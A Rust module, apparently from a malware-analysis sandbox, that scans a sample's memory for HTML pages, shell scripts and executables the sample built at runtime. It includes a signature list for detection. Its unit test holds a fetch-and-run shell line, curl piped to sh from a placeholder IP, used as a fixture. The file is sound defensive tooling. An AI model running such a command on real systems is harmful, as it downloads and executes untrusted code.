//! What a sample put together in its memory and left there: a whole page, a script of a shell, a program. Its
//! page need only know the address.
//!
//! It counts if it does not stand so in the file, nor in what the sample was given: only then was it built.
//! What was written to a file or to standard output is judged there.
//!
//! Costs one pass over the memory after an entry, as long as there is room.

use std::{collections::HashSet, sync::LazyLock};

use aho_corasick::AhoCorasick;
use memchr::memmem;

use super::{
    fs::Contents,
    handed::text_of,
    layers,
    limits::{BUILT_HITS, BUILT_SCANNED, RETURNED_SCAN},
    returned::Returns,
    types::RunOptions,
};

/// Bytes that are looked for in the file: a piece of this length is not there by chance.
const SAMPLE: usize = 40;
/// Zeros that are passed over at a time.
const ZEROS: usize = 4096;
/// How far before `PE` a program may begin.
const STUB: usize = 1024;

/// How it begins, what ends it, and in which width.
const BEGINS: &[&str] = &[
    "<!doctype html",
    "<html",
    "<script",
    "#!/bin/",
    "#!/usr/bin/",
    "powershell",
    "@echo off",
    "\x7fELF",
    "PE\0\0",
    "<\0!\0d\0o\0c\0t\0y\0p\0e\0 \0h\0t\0m\0l\0",
    "<\0h\0t\0m\0l\0",
    "<\0s\0c\0r\0i\0p\0t\0",
    "#\0!\0/\0b\0i\0n\0/\0",
    "p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0",
];

static SEARCH: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(BEGINS)
        .expect("a few words are no automaton too large")
});

/// Looks for what was built.
#[derive(Debug, Default)]
pub(super) struct Built {
    scanned: usize,
    /// How the things began that were looked at: most lie there for long.
    seen: HashSet<Vec<u8>>,
}

impl Built {
    /// Looks through the memory of a sample for what `is_known` knows by its first bytes from nowhere.
    pub(super) fn look(&mut self, memory: &[u8], is_known: impl Fn(&[u8]) -> bool, returns: &mut Returns) {
        let room = BUILT_SCANNED.saturating_sub(self.scanned);
        let memory = memory.get(..memory.len().min(room)).unwrap_or_default();
        // Zeros at the end were never used, and are passed over fast.
        let zeros = memory.rchunks(ZEROS).take_while(|chunk| chunk.iter().all(|byte| *byte == 0));
        let zeros: usize = zeros.map(<[u8]>::len).sum();
        self.scanned += memory.len() - zeros + zeros / 64;
        let memory = &memory[..memory.len() - zeros];
        let mut end = 0;
        for hit in SEARCH.find_iter(memory).take(16 * BUILT_HITS) {
            // What stands in a thing that was found is a part of it.
            if hit.start() < end {
                continue;
            }
            if self.scanned >= BUILT_SCANNED {
                return;
            }
            self.scanned +=
                memory[hit.start()..].iter().take(RETURNED_SCAN).take_while(|byte| **byte != 0).count();
            let Some((start, len)) = found(memory, hit.start()).filter(|(start, _)| *start >= end) else {
                continue;
            };
            end = start + len;
            let bytes = &memory[start..end];
            let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
            // Zeros at its end may be those of unused memory.
            let zeros = sample.iter().rev().take_while(|byte| **byte == 0).count();
            let sample = &sample[..sample.len() - zeros];
            if self.seen.len() < BUILT_HITS && self.seen.insert(sample.to_vec()) && !is_known(sample) {
                returns.take_whole(bytes);
            }
        }
    }
}

/// Where a thing begins and how long it is, if it is a whole one.
fn found(memory: &[u8], at: usize) -> Option<(usize, usize)> {
    let from = memory.get(at..)?;
    let window = from.get(..RETURNED_SCAN).unwrap_or(from);
    match window {
        [0x7f, b'E', b'L', b'F', ..] => {
            let version = matches!(window.get(20..24)?, [1, 0, 0, 0] | [0, 0, 0, 1]);
            (version && Contents::is_binary(window)).then_some((at, window.len()))
        }
        [b'P', b'E', 0, 0, ..] => {
            let before = memory.get(at.saturating_sub(STUB)..at)?;
            let back = memmem::rfind(before, b"MZ")?;
            let start = at - before.len() + back;
            let whole = memory.get(start..)?;
            let whole = whole.get(..RETURNED_SCAN).unwrap_or(whole);
            Contents::is_binary(whole).then_some((start, whole.len()))
        }
        [_, 0, _, 0, ..] => {
            let text = layers::wide(window)?;
            is_whole(&text).then(|| (at, 2 * String::from_utf8_lossy(&text).encode_utf16().count()))
        }
        _ => {
            let text = text_of(window);
            is_whole(text).then_some((at, text.len()))
        }
    }
}

/// Whether a text has an end and something in it.
fn is_whole(text: &[u8]) -> bool {
    let lower = String::from_utf8_lossy(text).to_lowercase();
    let ends = ["</html>", "</body>", "</script>"];
    match lower.starts_with('<') {
        true => text.len() >= SAMPLE && ends.iter().any(|end| lower.contains(end)),
        false => text.len() >= SAMPLE && Contents::of_handed(text) == Some(Contents::Command),
    }
}

/// Whether the first bytes of a thing stand in the sample's file, or in what it was given.
pub(super) fn is_given(sample: &[u8], wasm: &[u8], options: &RunOptions) -> bool {
    let files = options.persona.files.iter().map(|file| &file.bytes[..]);
    let given = files.chain(options.files.values().map(|bytes| &bytes[..]));
    given.chain([wasm, &options.stdin[..]]).any(|given| memmem::find(given, sample).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(memory: &[u8], wasm: &[u8]) -> Vec<Contents> {
        let mut returns = Returns::default();
        let options = RunOptions::default();
        Built::default().look(memory, |sample| is_given(sample, wasm, &options), &mut returns);
        returns.kept.iter().map(|returned| returned.contents).collect()
    }

    const PAGE: &[u8] = b"<html><body><script>go('to some other place')</script></body></html>";

    #[test]
    fn what_was_built_is_found_and_what_the_file_holds_is_not() {
        let mut memory = vec![0; 5000];
        memory[2000..2000 + PAGE.len()].copy_from_slice(PAGE);
        assert_eq!(kinds(&memory, b""), [Contents::Page]);
        assert_eq!(kinds(&memory, &memory), []);
        let wide: Vec<u8> =
            [&[0; 64][..], &PAGE.iter().flat_map(|byte| [*byte, 0]).collect::<Vec<_>>()].concat();
        assert_eq!(kinds(&wide, b""), [Contents::Page]);
        assert_eq!(
            kinds(b"\0<html> and <script> are tags of pages, says the help of this program\0", b""),
            []
        );
        assert_eq!(
            kinds(b"\0#!/bin/sh\ncurl -s http://192.0.2.7/a | sh\nexit\n\0", b""),
            [Contents::Command]
        );
    }
}
